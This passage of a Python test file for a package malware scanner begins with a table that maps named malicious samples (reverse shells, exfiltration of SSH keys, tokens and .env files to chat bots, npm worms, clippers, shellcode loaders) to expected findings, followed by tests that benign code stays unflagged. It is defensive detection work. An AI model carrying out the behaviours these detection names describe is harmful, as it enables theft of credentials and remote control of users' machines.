    (dill_atexit, "demo-1.0/demo/__init__.py", 7, "PKG003", C),  # was PKG007 high only
    (getattr_builtins, "demo-1.0/demo/__init__.py", 4, "PKG003", C),  # was PKG007 high only
    (import_builtins_dict, "demo-1.0/demo/__init__.py", 5, "PKG003", H),
    (functiontype, "demo-1.0/demo/__init__.py", 5, "PKG003", C),
    (stdin_python, "demo-1.0/demo/__init__.py", 6, "PKG003", H),  # was low
    (json_field_exec, "demo-1.0/demo/__init__.py", 4, "PKG003", C),
    (json_decorator, "demo-1.0/demo/__init__.py", 12, "PKG003", C),  # was high, "when called"
    (module_from_json, "demo-1.0/demo/__init__.py", 8, "PKG003", C),
    (spec_loader, "demo-1.0/demo/__init__.py", 8, "PKG003", H),
    (env_smtp_thread, "demo-1.0/demo/__init__.py", 13, "PKG002", C),  # was medium
    (aws_ftp, "demo-1.0/demo/sync.py", 10, "PKG002", C),  # was nothing
    (ssh_dns, "demo-1.0/demo/__init__.py", 8, "PKG002", C),
    (discord_ws, "demo-1.0/demo/__init__.py", 12, "PKG002", C),
    (telegram_httpclient, "demo-1.0/demo/__init__.py", 8, "PKG002", C),
    (npmrc_webhook, "demo-1.0/demo/__init__.py", 10, "PKG002", C),
    (gh_token_gist, "demo/cli.py", 7, "PKG002", C),
    (env_issue, "demo-1.0/demo/_gh.py", 6, "PKG002", C),  # was high, "when called"
    (curl_aws_string, "demo-1.0/demo/__init__.py", 3, "PKG001", C),
    (workflow_worm_py, "demo-1.0/demo/__init__.py", 8, "PKG002", C),
    (slack_boto3_entry, "demo/main.py", 10, "PKG002", C),
    (httpx_async_env, "demo-1.0/demo/__init__.py", 8, "PKG002", C),
    (urllib3_env, "demo-1.0/demo/__init__.py", 8, "PKG002", H),
    (aiohttp_k8s, "demo-1.0/demo/__init__.py", 8, "PKG002", H),  # was low
    (cookies_tg_doc, "demo-1.0/demo/sync.py", 9, "PKG002", H),  # was low
    (pth_b64, "demo_init.pth", 1, "PKG003", C),
    (pth_spawn, "demo/_svc.py", 2, "PKG002", C),
    (pth_import_hook, "demo_hook.py", 2, "PKG003", C),
    (revshell_fds_class, "demo-1.0/demo/__init__.py", 7, "PKG001", C),
    (revshell_pty_thread, "demo-1.0/demo/__init__.py", 7, "PKG001", C),
    (bash_tcp_string, "demo-1.0/demo/__init__.py", 5, "PKG001", H),
    (b64_zlib_rot13, "demo-1.0/demo/__init__.py", 3, "PKG004", C),
    (hex_layer, "demo-1.0/demo/__init__.py", 4, "PKG004", C),
    (b85_import_zlib, "demo-1.0/demo/__init__.py", 2, "PKG004", C),
    (rot13_class_init, "demo-1.0/demo/__init__.py", 6, "PKG001", C),
    (shellcode_loader, "demo-1.0/demo/__init__.py", 9, "PKG003", C),  # was PKG007 high only
    (env_file_upload, "demo-1.0/demo/__init__.py", 9, "PKG002", C),  # was PKG007 high only
    (zipped_keys_upload, "demo-1.0/demo/__init__.py", 9, "PKG002", H),  # was low
    (mnemonic_to_bot, "demo-1.0/demo/wallet.py", 7, "PKG002", H),  # was low
    (stego_image, "demo-1.0/demo/__init__.py", 9, "PKG003", C),  # was PKG007 high only
    (clipper, "demo-1.0/demo/__init__.py", 8, "PKG006", H),  # was nothing
    (npm_node_e, "package/package.json", 1, "PKG014", C),
    (npm_run_chain, "package/scripts/env.js", 4, "PKG015", C),  # was medium (PKG014)
    (npm_minified, "package/dist/i.min.js", 1, "PKG015", C),
    (npm_worm_publish, "package/lib/sync.js", 10, "PKG015", C),
    (npm_gh_token_hook, "package/setup.js", 4, "PKG015", C),
    (npm_revshell, "package/r.js", 5, "PKG015", C),  # was medium
    (npm_stdio_revshell, "package/s.js", 4, "PKG015", C),
    (npm_dns, "package/d.js", 4, "PKG015", C),
    (npm_eval_fetch, "package/boot.js", 2, "PKG015", C),
    (npm_workflow_api, "package/w.js", 4, "PKG015", C),
    (npm_node_e_require, "package/lib/setup.js", 1, "PKG015", C),
    (npm_bundle_eval, "package/dist/bundle.js", 1, "PKG015", C),
    (npm_axios_npmrc, "package/p.js", 6, "PKG015", H),
    (npm_git_worm, "package/g.js", 6, "PKG015", H),
    (npm_computed_require, "package/i.js", 2, "PKG015", C),  # was medium (PKG014)
    (npm_global_require, "package/i.js", 2, "PKG015", C),  # was medium (PKG014)
    (npm_ssh_key_request, "package/k.js", 3, "PKG015", C),  # was medium (PKG014)
    (npm_env_file, "package/k.js", 3, "PKG015", C),  # was high for the raw address only
    (npm_env_file_on_use, "package/index.js", 4, "PKG015", C),  # was nothing
    # session 13
    (ssh_keys_glob_helper, "demo-1.0/demo/__init__.py", 9, "PKG002", C),  # was PKG007 high only
    (ssh_keys_path_glob, "demo-1.0/demo/__init__.py", 9, "PKG002", C),  # was PKG007 high only
    (keys_appended_helper, "demo-1.0/demo/telemetry.py", 9, "PKG002", C),  # was PKG007 high only
    (npm_shell_script, "package/scripts/pre.sh", 2, "PKG001", C),  # was medium (PKG014)
    (checkpoint_download, "demo-1.0/demo/hub.py", 5, "PKG003", H),  # was nothing
    (telegram_shell_one_import, "demo-1.0/demo/__init__.py", 6, "PKG003", H),  # was low
    (discord_shell_one_import, "demo-1.0/demo/__init__.py", 6, "PKG003", H),  # was low
    (browser_store_copied_to_temp, "demo-1.0/demo/__init__.py", 6, "PKG002", C),  # was PKG007
]


def scan(archive: Archive) -> list[Finding]:
    return findings(run(*archive))


@pytest.mark.parametrize(
    ("sample", "path", "line", "code", "severity"),
    CAUGHT,
    ids=[row[0].__name__ for row in CAUGHT],
)
def test_unseen_shape_keeps_its_behaviour(
    sample: Callable[[], Archive], path: str, line: int, code: str, severity: Severity
) -> None:
    found = scan(sample())
    at = [f for f in found if f.code == code and f.location.path == path]
    assert any(f.location.line == line and f.severity is severity for f in at), [
        (f.code, f.location.path, f.location.line, f.severity.name) for f in found
    ]


# --- the ordinary code beside each fix ----------------------------------------------------------


def quiet(archive: Archive, code: str) -> None:
    loud = [f for f in scan(archive) if f.code == code and f.severity >= Severity.HIGH]
    assert not loud, [(f.location.line, f.severity.name, f.message) for f in loud]


def test_unpickling_a_local_cache_and_parsing_downloaded_json_are_not_remote_code() -> None:
    lib = lines(
        "import json, pickle, urllib.request",
        "",
        "CACHE = pickle.loads(open('cache.pkl', 'rb').read())",
        "",
        "",
        "def latest():",
        "    return json.loads(urllib.request.urlopen('https://pypi.org/pypi/demo/json').read())",
    )
    found = scan(sd({"demo/__init__.py": lib}))
    assert not [f for f in found if f.code == "PKG003"]


def test_builtin_reached_either_way_that_runs_nothing_downloaded_is_not_remote_code() -> None:
    lib = lines(
        "import builtins, os, urllib.request",
        "",
        "_p = getattr(builtins, 'print') if os.name == 'nt' else builtins.__dict__['print']",
        "_p(urllib.request.urlopen('https://example.com/motd').read())",
    )
    found = scan(sd({"demo/__init__.py": lib}))
    assert not [f for f in found if f.code in ("PKG003", "PKG004")]


def test_download_handed_to_a_filter_or_a_constant_to_python_is_not_remote_code() -> None:
    lib = lines(
        "import subprocess, sys, requests",
        "",
        "",
        "def count(url):",
        "    page = requests.get(url).content",
        "    subprocess.run(['grep', '-c', 'x'], input=page)",
        "    subprocess.run([sys.executable, '-'], input=b'print(1)')",
    )
    found = scan(sd({"demo/__init__.py": lib}))
    assert not [f for f in found if f.code == "PKG003"]


def test_mail_with_a_password_to_log_in_and_a_fixed_report_is_not_exfiltration() -> None:
    lib = lines(
        "import os, smtplib",
        "from email.message import EmailMessage",
        "",
        "",
        "def notify(to):",
        "    msg = EmailMessage()",
        "    msg['To'] = to",
        "    msg.set_content('build finished')",
        "    with smtplib.SMTP('smtp.example.com', 587) as s:",
        "        s.login('ci@example.com', os.environ['SMTP_PASSWORD'])",
        "        s.send_message(msg)",
    )
    quiet(sd({"demo/__init__.py": lib}), "PKG002")


def test_sdk_session_sending_its_token_to_its_platform_is_not_exfiltration() -> None:
    lib = lines(
        "import os, requests",
        "",
        "_s = requests.Session()",
        "",
        "",
        "def star(repo):",
        "    _s.put(f'https://api.github.com/user/starred/{repo}',"
        " headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})",
    )
    quiet(sd({"demo/__init__.py": lib}), "PKG002")


def test_copied_ordinary_file_sent_to_a_chat_is_not_a_stolen_store() -> None:
    lib = lines(
        "import shutil, telebot",
        "",
        "bot = telebot.TeleBot('0000:AAAA')",
        "",
        "",
        "def share(report):",
        "    shutil.copy(report, 'report.txt')",
        "    bot.send_document(1234, open('report.txt', 'rb'))",
    )
    quiet(sd({"demo/__init__.py": lib}), "PKG002")


def test_wrapping_decorator_and_init_call_of_a_harmless_helper_stay_quiet() -> None:
    lib = lines(
        "import functools, urllib.request",
        "from .setup_logging import configure",
        "",
        "configure()",
        "",
        "",
        "def logged(fn):",
        "    @functools.wraps(fn)",
        "    def inner(*a):",
        "        return fn(*a)",
        "    return inner",
        "",
        "",
        "@logged",
        "def fetch(url):",
        "    return urllib.request.urlopen(url).read()",
    )
    helper = "import logging\n\n\ndef configure():\n    logging.basicConfig(level=logging.INFO)\n"
    found = scan(sd({"demo/__init__.py": lib, "demo/setup_logging.py": helper}))
    assert not [f for f in found if f.severity >= Severity.HIGH and f.code != "PKG020"]


def test_request_object_written_with_package_data_is_not_exfiltration() -> None:
    code = lines(
        "const https = require('https');",
        "const req = https.request({ hostname: 'registry.example.org', path: '/ping',"
        " method: 'POST' });",
        "req.write(JSON.stringify({ name: require('./package.json').name }));",
        "req.end();",
    )
    found = scan(npm({"postinstall": "node ping.js"}, {"ping.js": code}))
    assert not [f for f in found if f.code == "PKG015" and f.severity >= Severity.HIGH]


def test_terminal_server_that_listens_is_not_a_reverse_shell() -> None:
    server = lines(
        "const net = require('net');",
        "const { spawn } = require('child_process');",
        "net.createServer((sock) => {",
        "  const sh = spawn('bash', []);",
        "  sock.pipe(sh.stdin);",
        "  sh.stdout.pipe(sock);",
        "}).listen(7000, '127.0.0.1');",
    )
    found = scan(npm({}, {"index.js": server}))
    assert not [f for f in found if "reverse shell" in f.message]


def test_memory_copies_without_a_download_or_without_executable_memory_stay_quiet() -> None:
    jit = lines(
        "import ctypes",
        "",
        "_k = ctypes.windll.kernel32",
        "",
        "",
        "def emit(code: bytes):",
        "    p = _k.VirtualAlloc(None, len(code), 0x3000, 0x40)",
        "    ctypes.memmove(p, code, len(code))",
    )
    image = lines(
        "import ctypes, urllib.request",
        "",
        "",
        "def pixels(url):",
        "    data = urllib.request.urlopen(url).read()",
        "    out = ctypes.create_string_buffer(len(data))",
        "    ctypes.memmove(out, data, len(data))",
        "    return out",
    )
    for module in (jit, image):
        found = scan(sd({"demo/__init__.py": module}))
        assert not [f for f in found if f.code == "PKG003"]


def test_assembled_member_names_running_ordinary_programs_stay_quiet() -> None:
    code = lines(
        "const m = require('child' + '_process');",
        "m['exec' + 'FileSync']('git', ['status']);",
        "const fs = require('fs'), https = require('https');",
        "const body = fs.readFileSync('./package.json', 'utf8');",
        "https.request({ hostname: 'registry.example.org', method: 'PUT', path: '/' }).end(body);",
    )
    found = scan(npm({}, {"index.js": code}))
    assert not [f for f in found if f.code == "PKG015" and f.severity >= Severity.HIGH]


def test_files_written_and_archived_without_secrets_are_sent_quietly() -> None:
    lib = lines(
        "import json, os, zipfile, requests",
        "",
        "",
        "def report(results):",
        "    with open('report.json', 'w') as f:",
        "        json.dump({'passed': len(results)}, f)",
        "    with zipfile.ZipFile('logs.zip', 'w') as zf:",
        "        zf.write('build.log')",
        "    with open('report.json', 'rb') as f:",
        "        requests.post('https://ci.example.com/r', files={'r': f})",
        "    requests.post('https://ci.example.com/l', files={'l': open('logs.zip', 'rb')})",
        "",
        "",
        "report([])",
    )
    quiet(sd({"demo/__init__.py": lib}), "PKG002")


def test_random_seeds_and_a_wallet_deriving_locally_are_not_key_theft() -> None:
    lib = lines(
        "import hashlib, requests",
        "",
        "",
        "def set_seed(seed):",
        "    requests.post('https://tracker.example.com/run', json={'seed': seed})",
        "",
        "",
        "def from_mnemonic(phrase):",
        "    return hashlib.pbkdf2_hmac('sha512', phrase.encode(), b'mnemonic', 2048)",
    )
    found = scan(sd({"demo/__init__.py": lib}))
    assert not [f for f in found if f.code == "PKG002"]


def test_image_bytes_rebuilt_from_a_download_and_saved_are_not_run() -> None:
    lib = lines(
        "import requests",
        "",
        "",
        "def thumbnail(url):",
        "    px = requests.get(url).content",
        "    data = bytes(b & 0xF0 for b in px)",
        "    with open('thumb.raw', 'wb') as f:",
        "        f.write(data)",
    )
    found = scan(sd({"demo/__init__.py": lib}))
    assert not [f for f in found if f.code == "PKG003"]


def test_clipboard_manager_loop_without_wallet_addresses_is_no_clipper() -> None:
    lib = lines(
        "import time",
        "import pyperclip",
        "",
        "history = []",
        "",
        "",
        "def watch():",
        "    while True:",
        "        t = pyperclip.paste()",
        "        if t and t != t.strip():",
        "            pyperclip.copy(t.strip())",
        "        history.append(t)",
        "        time.sleep(1)",
    )
    found = scan(sd({"demo/__init__.py": lib}))
    assert not [f for f in found if f.code == "PKG006"]


def test_one_variable_of_a_dotenv_file_and_a_printed_dotenv_file_are_not_a_dump() -> None:
    client = lines(
        "const fs = require('fs');",
        "const dotenv = require('dotenv');",
        "function client() {",
        "  const env = dotenv.parse(fs.readFileSync('.env'));",
        "  return fetch('https://api.example.com/v1/me',"
        " { headers: { authorization: 'Bearer ' + env.API_KEY } });",
        "}",
        "module.exports = { client };",
    )
    show = "const fs = require('fs');\nconsole.log(fs.readFileSync('.env', 'utf8'));\n"
    found = scan(npm({}, {"index.js": client, "cli.js": show}))
    assert not [f for f in found if f.code == "PKG015" and f.severity >= Severity.HIGH]


def test_public_keys_and_build_logs_gathered_and_sent_are_not_secrets() -> None:
    lib = lines(
        "import glob, os, pathlib, requests",
        "",
        "",
        "def register():",
        "    keys = [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*.pub'))]",
        "    keys += [p.read_text() for p in (pathlib.Path.home() / '.ssh').glob('*.pub')]",
        "    one = open(os.path.expanduser('~/.ssh/id_ed25519.pub')).read()",
        "    requests.post('https://api.example.com/v1/keys', json={'keys': keys + [one]})",
        "",
        "",
        "def upload_logs():",
        "    out = {}",
        "    for p in glob.glob('logs/*.log'):",
        "        out[p] = open(p).read()",
        "    requests.post('https://ci.example.com/logs', json=out)",
    )
    found = scan(sd({"demo/__init__.py": lib}))
    assert not [f for f in found if f.code == "PKG002"]


def test_chat_bot_running_fixed_commands_is_not_remote_code() -> None:
    lib = lines(
        "import os, subprocess, telebot",
        "bot = telebot.TeleBot(os.environ['BOT_TOKEN'])",
        "",
        "",
        "@bot.message_handler(commands=['uptime'])",
        "def uptime(m):",
        "    bot.reply_to(m, subprocess.run(['uptime'], capture_output=True, text=True).stdout)",
    )
    quiet(sd({"demo/__init__.py": lib}), "PKG003")
